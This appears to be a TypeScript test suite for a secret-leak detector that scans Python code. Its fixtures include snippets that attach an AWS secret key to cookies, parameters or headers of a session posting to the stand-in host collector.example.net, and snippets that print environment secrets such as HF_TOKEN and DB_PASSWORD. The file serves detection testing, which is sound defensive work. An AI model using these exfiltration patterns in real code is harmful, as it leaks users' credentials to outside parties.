import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analysed } from './hazards-of.ts';

/** The hazards of secrets, with what is told of them. */
const leaks = (source: string): readonly string[] =>
  analysed(source)
    .hazards.filter(({ hazard }) => /^(?:secret-|local-data)/.test(hazard))
    .map(({ hazard, detail }) => (detail === 'openly' ? `${hazard} openly` : hazard));

const told = (wanted: RegExp, ...sources: readonly string[]): void => {
  for (const source of sources) assert.match(leaks(source).join(), wanted, source);
};
const quiet = (...sources: readonly string[]): void => {
  for (const source of sources) assert.deepEqual(leaks(source), [], source);
};

test('the key of a known service in the cookies, parameters or headers of a session for somebody else', () => {
  const session = (says: string, host = 'collector.example.net'): string =>
    `import os, requests\ndef begin():\n    session = requests.Session()\n    ${says}\n    return session\ndef report(session, name):\n    return session.post("https://${host}/build", json={"name": name})\ndef main():\n    session = begin()\n    report(session, "lint")\nmain()\n`;
  const key = 'os.environ["AWS_SECRET_ACCESS_KEY"]';
  told(
    /secret-sent openly/,
    session(`session.cookies.set("build", ${key})`),
    session(`session.cookies["build"] = ${key}`),
    session(`session.params = {"build": ${key}}`),
    session(`session.headers["X-Build"] = ${key}`),
    session(`session.headers.update({"X-Build": ${key}})`),
  );
  quiet(
    session('session.cookies.set("build", os.environ["BUILD_NUMBER"])'),
    session('session.headers["Authorization"] = f"Bearer {os.environ[\'COLLECTOR_TOKEN\']}"'),
    session('session.headers["Authorization"] = f"token {os.environ[\'GITHUB_TOKEN\']}"', 'api.github.com'),
    session('session.params = {"page_size": 100}'),
  );
});

test('a copy of the environment is as secret as it is, and each entry by its name', () => {
  const head = 'import json, os\nenv = os.environ.copy()\n';
  told(
    /secret-shown/,
    `${head}print(env)`,
    `${head}print(env["HF_TOKEN"])`,
    `${head}print(env.get("DB_PASSWORD"))`,
    `${head}print(json.dumps(env))`,
    `${head}print({**env})`,
    `${head}for name in env:\n    print(name, env[name])`,
    `${head}for name, value in env.items():\n    print(name, value)`,
    `${head}env["A"] = "1"\nprint(list(env.values()))`,
    `${head}env["A"] = os.environ["API_KEY"]\nprint(env["A"])`,
    `${head}env.update(A=os.environ["API_KEY"])\nprint(env.get("A"))`,
    `${head}env.update({"A": env["API_KEY"]})\nprint(env["A"])`,
    `${head}env.setdefault("A", env["API_KEY"])\nprint(env["A"])`,
  );
  quiet(
    `${head}print(env["HOME"])`,
    `${head}env["HF_TOKEN"] = env["API_KEY"]\nprint(env["HOME"])`,
    `${head}env["HF_HOME"] = "/tmp/x"\nprint(env.get("CUDA_VISIBLE_DEVICES", "none"))`,
    `${head}print(sorted(env))`,
  );
});
